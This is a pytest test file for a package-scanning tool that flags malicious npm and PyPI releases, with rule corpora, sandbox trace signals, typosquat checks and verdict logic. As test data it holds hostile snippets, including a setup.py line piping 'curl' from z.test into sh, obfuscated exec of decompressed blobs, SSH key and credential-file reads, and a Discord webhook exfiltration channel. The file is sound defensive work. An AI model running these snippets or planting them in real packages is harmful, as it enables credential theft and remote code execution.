"""Rule corpora: must flag, must not flag."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pyspark.sql import functions as F

from assayer.functions import fixed, text
from assayer.operators import detonation, lines, policy, python_code, typosquat, verdict
from assayer.sources import manifests

JS = {
    "eval(x)": {"eval-computed-arg"}, "eval('1')": set(), "new Function (a)": {"eval-computed-arg"}, "exec()": {"command-exec-computed-arg"}, "/a/.exec(s)": set(), "spawn(cmd)": {"command-exec-computed-arg"},
    "child_process.exec(c)": set(), "child_process.spawn(c)": {"command-exec-computed-arg"}, "const c = require('child_process'); c.exec(x)": {"command-exec-computed-arg"}, "exec( 'ls')": set(),
    "http://1.2.3.4/x": {"known-exfil-channel"}, "https://DISCORD.com/api/webhooks/1": {"known-exfil-channel"}, "see example.com": set(), "npm unpublish a": {"npm-self-publish-behavior"}, ".npmrc then _authToken": {"npm-self-publish-behavior"},
    "process.env.GH_TOKEN": {"named-credential-env-read"}, "process.env.NODE_ENV; fetch(u)": set(), "process.env.HOME; fetch(u)": {"sensitive-data-network-cooccurrence"}, "JSON.stringify(process.env)": {"bulk-env-enumeration"},
    "x = process.env.TRAVIS\nhttps.request(o)": {"ci-sandbox-evasion", "sensitive-data-network-cooccurrence"}, f"'{'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'}'": set(),
}


def test_javascript(spark):
    rows = [("npm", str(i), "1", "a.js", t) for i, t in enumerate(JS)]
    got = lines.scan_javascript(spark.createDataFrame(rows, "ecosystem string, package string, version string, path string, text string")).collect()
    for i, (t, want) in enumerate(JS.items()):
        assert {r["category"] for r in got if r["package"] == str(i)} == want, t


#: (path, source, findings); each is a release of its own.
PY = [
    ("setup.py", "from os import popen as go\ngo('curl -s http://z.test/a | sh')", {"command-exec-shell-pipe"}),
    ("setup.py", "import lzma, bz2\nexec(bz2.decompress(blob))", {"obfuscated-exec"}),
    ("lib/deep.py", "eval(given)", set()),
    ("setup.py", "exec(compile(open('about.py').read(), 'about', 'exec'))", set()),
    ("widget/__init__.py", "def lazy():\n    eval(given)", set()),
    ("widget/__init__.py", "def lazy():\n    eval(given)\nlazy()", {"exec-computed-arg"}),
    ("widget/__init__.py", "class Late:\n    eval(given)", set()),
    ("widget/__init__.py", "late = lambda: eval(given)", set()),
    ("widget/__init__.py", "def lazy():\n    eval(given)\nkeep = lambda: lazy()", set()),
    ("widget/__init__.py", "def lazy():\n    eval(given)\nif flag:\n    for n in (1, 2):\n        lazy()", {"exec-computed-arg"}),
    ("setup.py", "class Now:\n    eval(given)", {"exec-computed-arg"}),
    ("lib/deep.py", "import importlib as il\nil.import_module('sock' + 'et')", {"obfuscated-module-load"}),
    ("lib/deep.py", "part = 'cty'\n__import__(f'{part}pes')", {"obfuscated-module-load"}),
    ("lib/deep.py", "__import__(''.join(['p', 'ty']))", {"obfuscated-module-load"}),
    ("lib/deep.py", "__import__(chr(111) + chr(115))", {"obfuscated-module-load"}),
    ("lib/deep.py", "from base64 import b64decode\n__import__(b64decode('b3M='))", {"obfuscated-module-load"}),
    ("lib/deep.py", "import importlib\nimportlib.import_module(wanted)", set()),
    ("setup.py", "from subprocess import check_call\nimport sys\ncheck_call([sys.executable, '-c', script])", {"command-exec-computed-arg"}),
    ("setup.py", "from subprocess import check_call\ncheck_call(['bash', '-c', 'echo ' + word])", {"command-exec-computed-arg"}),
    ("setup.py", "from subprocess import check_call\ncheck_call('make ' + target, shell=True)", {"command-exec-computed-arg"}),
    ("setup.py", "from subprocess import check_call\ncheck_call(['hg', 'id', rev])", set()),
    ("setup.py", "from subprocess import check_call\ncheck_call([compiler, '-o', out])", set()),
    ("setup.py", "from subprocess import check_call\ncheck_call(command_line)", set()),
    ("setup.py", "import os\nfor name in os.environ:\n    note(name)", {"bulk-env-enumeration"}),
    ("setup.py", "for name in os.environ:\n    note(name)", {"bulk-env-enumeration"}),
    ("setup.py", "import os, json\nnote(dict(os.environ))", set()),
    ("setup.py", "import os, json\njson.dumps(os.environ)", {"bulk-env-enumeration"}),
    ("setup.py", "import os\nfor k, v in os.environ.items():\n    note(k)", {"bulk-env-enumeration"}),
    ("setup.py", "import setuptools\nsetuptools.setup(cmdclass={'build_py': Mine})", {"custom-install-command"}),
    ("setup.py", "import setuptools\nsetuptools.setup(cmdclass=chosen)", {"custom-install-command"}),
    ("setup.py", "import setuptools\nsetuptools.setup(cmdclass={})", set()),
    ("setup.py", "from urllib.request import urlopen\nurlopen(place)", {"install-time-network"}),
    ("setup.py", "import os, httpx\nhttpx.post(place, json=os.environ.get('T'))", {"sensitive-data-network-cooccurrence"}),
    ("docs/setup.py", "import httpx\nhttpx.get(place)", set()),
    ("start.pth", "import sys; exec(open('x').read())", {"pth-startup-code"}), ("start.pth", "import sys", set()), ("start.pth", "./vendored/http", set()),
    ("setup.py", "print 'old'\nexec ('x'.decode('hex')); exec(zlib.decompress(p))", {"obfuscated-exec"}),
    ("setup.py", "print 'old and plain'", set()),
    ("pyproject.toml", "[build-system]\nbuild-backend = 'mine.backend'", {"custom-build-backend"}),
    ("pyproject.toml", "[build-system]\nbackend-path = ['tools']\nbuild-backend = 'hatchling.build'", {"custom-build-backend"}),
    ("pyproject.toml", "[build-system]\nbuild-backend = 'flit_core.buildapi'", set()), ("pyproject.toml", "][", set()),
    ("setup.py", "keys = '~/.ssh/id_ed25519'", {"credential-file-access"}),
    ("lib/deep.py", "keys = '~/.ssh/id_ed25519'", set()),
    ("setup.py", "x = " + "(" * 30 + "1" + ")" * 30 + "\neval(given)", {"exec-computed-arg"}),
    ("setup.py", "total = " + " + ".join(["a"] * 3000) + "\neval(given)", {"exec-computed-arg"}),
]


def as_release(rows):
    return [("pypi", f"p{i}", "1", "sdist", path, len(source), source) for i, (path, source) in enumerate(rows)]


SOURCES = "ecosystem string, package string, version string, label string, path string, size_bytes int, text string"


def test_python(spark):
    got = {}
    for r in python_code.scan_python(spark.createDataFrame(as_release([x[:2] for x in PY]), SOURCES)).collect():
        got.setdefault(r["package"], set()).add(r["category"])
    for i, (path, source, want) in enumerate(PY):
        assert got.get(f"p{i}", set()) == want, (path, source[:200])


def test_python_lines_and_first_findings(spark):
    source = "import os\n\nos.system(one + two); os.system(three + four)\nos.environ\nimport requests\nrequests.get(u)\nrequests.get(v)"
    got = sorted((r["category"], r["line"], r["detail"]) for r in python_code.scan_python(spark.createDataFrame(as_release([("setup.py", source)]), SOURCES)).collect())
    assert got == [("command-exec-computed-arg", 3, "os.system"), ("sensitive-data-network-cooccurrence", 6, "sensitive read near line 4")]


def test_backend_folder_is_import_time(spark):
    rows = [("pypi", "p", "1", label, path, size, text) for label, path, size, text in [
        ("sdist", "pyproject.toml", 40, "[build-system]\nbackend-path = ['tools']"), ("sdist", "tools/build.py", 9, "eval(given)"), ("sdist", "other/build.py", 9, "eval(given)"), ("wheel", "pyproject.toml", 40, "[build-system]\nbackend-path = ['.']"),
        ("wheel", "hook.py", 9, "x = 1"), ("wheel", "big.py", 2_000_000, "x"), ("wheel", "sitecustomize.py", 5, "x = 1")]]
    files = spark.createDataFrame(rows, SOURCES)
    assert [(r["path"], r["category"]) for r in python_code.scan_python(files).where("category = 'exec-computed-arg'").collect()] == [("tools/build.py", "exec-computed-arg")]
    assert [r["excerpt"] for r in python_code.mismatches(files).collect()] == ["hook.py, sitecustomize.py"]
    assert [r["evidence"][0]["excerpt"] for r in python_code.python_gaps(files).collect()] == ["wheel:big.py"]
    assert "startup-hook-file" in {r["category"] for r in python_code.scan_python(files).collect()}
    assert python_code.backend_folders("[build-system]\nbackend-path = ['.', 'a/b', '../c']") == [".", "a/b"]


def test_addresses_are_public_as_the_library_says(spark):
    import ipaddress
    import random

    r = random.Random(2)
    some = ["::1", "::", "fe80::1%eth0", "::ffff:10.0.0.1", "::ffff:8.8.8.8", "::ffff:7f00:1", "2001:db8::1", "2001:4860:4860::8888", "fd00::1", "ff02::1", "64:ff9b::1", "64:ff9b:1::5", "100::1", "2001::1", "2001:20::1", "2002::1", "8.8.8.8", "224.0.0.1", "100.64.0.1", "192.0.0.9", "1.2.3.4"]
    some += [str(ipaddress.IPv6Address(r.getrandbits(128))) for _ in range(60)] + [str(ipaddress.IPv4Address(r.getrandbits(32))) for _ in range(60)]
    got = {x["a"]: x["p"] for x in spark.createDataFrame([(a,) for a in [*some, "host", "1:2", "", "300.1.1.1"]], "a string").select("a", text.public_address("a").alias("p")).collect()}
    for a in some:
        ip = ipaddress.ip_address(a.split("%")[0])
        ip = getattr(ip, "ipv4_mapped", None) or ip
        assert got[a] == (ip.is_global and not ip.is_multicast), a
    assert [got[a] for a in ("host", "1:2", "", "300.1.1.1")] == [None] * 4


def test_urls_and_tails(spark):
    rows = [("https://h.test/a?b#c", "/a?b"), ("http://h.test", "/"), ("http://h.test?q=1", "/?q=1"), ("http://h.test:8/x", "/x")]
    got = [tuple(x) for x in spark.createDataFrame(rows, "u string, w string").select(text.origin_form("u"), "w").collect()]
    assert all(a == b for a, b in got)
    assert [x[0] for x in spark.createDataFrame([("x" * 2500 + "\x1b[1mend",), (None,)], "t string").select(text.tail("t")).collect()] == ["x" * (2000 - 7) + "end", ""]


VERDICTS = [([("recon", "critical")], "malicious"), ([("recon", "high"), ("detonation", "medium")], "malicious"), ([("recon", "medium"), ("detonation", "medium")], "suspicious"), ([("analyst", "high"), ("analyst", "high")], "malicious"),
            ([("analyst", "high"), ("analyst", "medium")], "suspicious"), ([("recon", "low")], "clean"), ([], "clean"), ([("recon", "high")], "suspicious")]


def test_verdict_table(spark):
    d = spark.createDataFrame([("npm", f"p{i}", "1", None if i < 90 else "x") for i in [*range(len(VERDICTS)), 99]], "ecosystem string, package string, version string, scan_error string")
    s = spark.createDataFrame([("npm", f"p{i}", "1", a, b) for i, (rows, _) in enumerate(VERDICTS) for a, b in rows] + [("npm", "p99", "1", "recon", "critical")], "ecosystem string, package string, version string, source string, severity string")
    got = {r["package"]: r["verdict"] for r in verdict.verdicts(d, s).collect()}
    assert got == {f"p{i}": v for i, (_, v) in enumerate(VERDICTS)} | {"p99": "unscanned"}
    assert verdict.gate(d.withColumn("verdict", F.lit("clean")).withColumn("ignored", F.lit(False)).limit(0)).first()["exit_code"] == 0


def test_names(spark):
    names = "lodahs expresss crossenv cross_env cross-env.js reactt vuex preact pug yup lodash axois typescirpt nod-fetch".split()
    got = {r["name"]: r["target"] for r in typosquat.targets(spark.createDataFrame([(n,) for n in names], "name string"), typosquat.popular_table(spark, "npm"), fixed.NEAR_NPM).collect()}
    assert got == {"lodahs": "lodash", "expresss": "express", "crossenv": "cross-env", "cross_env": "cross-env", "cross-env.js": "cross-env", "reactt": "react", "axois": "axios", "typescirpt": "typescript", "nod-fetch": "node-fetch"}


def _osa(a, b):
    d = {(i, j): max(i, j) for i in range(len(a) + 1) for j in range(len(b) + 1) if not i or not j}
    for i in range(1, len(a) + 1):
        for j in range(1, len(b) + 1):
            d[i, j] = min(d[i - 1, j] + 1, d[i, j - 1] + 1, d[i - 1, j - 1] + (a[i - 1] != b[j - 1]))
            if i > 1 and j > 1 and a[i - 1] == b[j - 2] and a[i - 2] == b[j - 1]:
                d[i, j] = min(d[i, j], d[i - 2, j - 2] + 1)
    return d[len(a), len(b)]


def test_osa_and_entropy(spark):
    import math
    import random

    r = random.Random(3)
    pairs = [("".join(r.choice("abc") for _ in range(r.randint(0, 6))), "".join(r.choice("abc") for _ in range(r.randint(0, 6)))) for _ in range(120)] + [("ca", "abc"), ("", ""), ("lodahs", "lodash")]
    got = spark.createDataFrame(pairs, "a string, b string").select("a", "b", text.osa_distance("a", "b").alias("d"), text.entropy("a").alias("h")).collect()
    for x in got:
        assert x["d"] == _osa(x["a"], x["b"]), (x["a"], x["b"])
        h = -sum(p * math.log2(p) for p in (x["a"].count(c) / len(x["a"]) for c in set(x["a"])))
        assert abs(x["h"] - h) < 1e-9


@settings(max_examples=20, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=30))
def test_reports_are_safe(spark, texts):
    rows = spark.createDataFrame([(t.encode("utf-8", "ignore").decode(),) for t in texts], "t string").select(text.sanitize("t").alias("s"), text.formula_guard("t").alias("g")).collect()
    for r in rows:
        assert not any(ord(c) < 32 and c not in "\t\n" or 127 <= ord(c) <= 159 for c in r["s"])
        assert r["g"][:1] not in ("=", "+", "-", "@", "\t", "\r") and "\n" not in r["g"]


def test_canary_forms(spark):
    import base64
    import urllib.parse

    value = "canary_0123456789abcdef~ +/"
    forms = spark.createDataFrame([(value,)], "v string").select(text.canary_forms("v")).first()[0]
    assert len(forms) == 11
    for blob in (value, base64.b64encode(value.encode()).decode(), base64.urlsafe_b64encode(value.encode()).decode().rstrip("="), value.encode().hex(), urllib.parse.quote(value, safe=""), *(base64.b64encode(b"x" * k + value.encode() + b"tail").decode() for k in range(3))):
        assert any(f in blob for f in forms), blob


TRACE = [
    ('7 openat(AT_FDCWD, "/home/u/.aws/credentials", O_RDONLY) = 3', ("sensitive-file-access", "high")), ('7 openat(AT_FDCWD, "/proc/12/environ", O_RDONLY) = 3', ("sensitive-file-access", "medium")), ('7 openat(AT_FDCWD, "/proc/self/environ", O_RDONLY) = 3', None),
    ('7 openat(AT_FDCWD, "/root/.ssh/authorized_keys", O_RDONLY) = 3', ("sensitive-file-access", "high")), ('7 openat(AT_FDCWD, "/root/.ssh/authorized_keys", O_WRONLY) = 3', ("persistence-attempt", "high")), ('7 rename("/tmp/a", "/root/.bashrc") = 0', None),
    ('[pid 9] openat2(AT_FDCWD, "/trace/trace.log", {}) = 3', ("trace-interference", "medium")), ('7 connect(3, {sa_family=AF_UNIX, sun_path="/var/run/docker.sock"}, 9) = 0', ("sensitive-file-access", "high")),
    ('7 connect(3, {sa_family=AF_INET, sin_port=htons(8080), sin_addr=inet_addr("172.18.0.2")}, 16) = 0', None), ('7 connect(3, {sa_family=AF_INET, sin_port=htons(8080), sin_addr=inet_addr("8.8.8.8")}, 16) = 0', ("proxy-bypass-attempt", "medium")),
    ('7 connect(3, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.11")}, 16) = 0', None), ('7 connect(3, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=0, inet_pton(AF_INET6, "2606:4700::1", &sin6_addr)}, 28) = -1', ("proxy-bypass-attempt", "medium")), ("cut", None),
]


def test_trace(spark):
    rows = [(f"r{i}", "p", n, x) for i, (line, _) in enumerate(TRACE) for n, x in enumerate(['1 execve("/bin/sh", ["sh"], 0x0) = 0', line, line])]
    states = spark.createDataFrame([*((f"r{i}", "p", True, False) for i in range(len(TRACE))), ("gone", "p", True, False), ("off", "p", False, False), ("unable", "p", True, True)], "run_id string, package string, requested boolean, unavailable boolean")
    got = detonation.trace_signals(spark.createDataFrame(rows, "run_id string, package string, seq bigint, line string"), states).collect()
    for i, (line, want) in enumerate(TRACE):
        assert [(r["category"], r["severity"]) for r in got if r["run_id"] == f"r{i}"] == ([want] if want else []), line
    assert {r["run_id"] for r in got} & {"gone", "off", "unable"} == {"gone"}


def test_manifests(spark):
    files = [
        ("a", "package-lock.json", '{"packages":{"":{"name":"root","version":"1"},"node_modules/x":{"version":"1.0.0"},"node_modules/x/node_modules/@s/y":{"version":"2.0.0"},"node_modules/z":{"name":"real","version":"3"},"node_modules/bad":[1]}}'),
        ("b", "package.json", '{"dependencies":{"p":"^1","q":"2"},"devDependencies":{"p":"~3"}}'), ("c", "package-lock.json", "null"), ("c", "uv.lock", '[[package]]\nname="A_b"\nversion="1"\nsource={registry="x"}\n[[package]]\nname="own"\nversion="1"\nsource={editable="."}'),
        ("d", "requirements.txt", "-r more.txt\n-r ../out.txt\nfoo[x]==1.0 ; python_version>'3' # c\nbar>=2\nBaz\n-e .\nhttps://x/y.whl\nqux===1.1 \\\n --hash=sha256:0\n"), ("d", "more.txt", "deep == 4"), ("e", "Pipfile.lock", '{"default":{"k":{"version":"==1"},"l":{"version":"*"}},"develop":{"m":{"version":"==2"}}}'),
    ]
    got = {(r["project"], r["name"], r["version"]) for r in manifests.resolve(spark.createDataFrame(files, "project string, path string, content string")).collect()}
    assert got == {("a", "x", "1.0.0"), ("a", "@s/y", "2.0.0"), ("a", "real", "3"), ("b", "p", "~3"), ("b", "q", "2"), ("c", "a-b", "1"), ("d", "foo", "1.0"), ("d", "bar", ">=2"), ("d", "baz", "unpinned"), ("d", "qux", "1.1"), ("d", "deep", "4"), ("e", "k", "1"), ("e", "m", "2")}


@pytest.mark.parametrize("bad", ["{", "{}", "[1]", '[{"package":"a"}]', '[{"package":"a","reason":"r","expires":"soon"}]', '[{"package":"a","reason":"r","x":1}]', '[{"package":"a","reason":"r","ecosystem":"gem"}]'])
def test_policy_errors(bad):
    with pytest.raises(ValueError):
        manifests.read_policy(bad)


def test_policy(spark):
    import datetime

    rules = manifests.read_policy('[{"package":"a","reason":"r","version":"1","expires":"2030-01-01"},{"package":"a","reason":"any"},{"package":"a","reason":"hidden"}]')
    frame = spark.createDataFrame(rules, manifests.POLICY)
    d = spark.createDataFrame([("npm", "a", "1"), ("npm", "a", "2"), ("npm", "b", "1")], "ecosystem string, package string, version string")
    on = F.lit(datetime.date(2030, 1, 1))
    assert {(r["package"], r["version"]): r["ignore_reason"] for r in policy.apply_rules(d, frame, on).collect()} == {("a", "1"): "r", ("a", "2"): "any", ("b", "1"): None}
    assert [r["ord"] for r in policy.unused_rules(d, frame, on).collect()] == [2]
    assert [r["ord"] for r in policy.expired_rules(frame, F.lit(datetime.date(2030, 1, 2))).collect()] == [0]
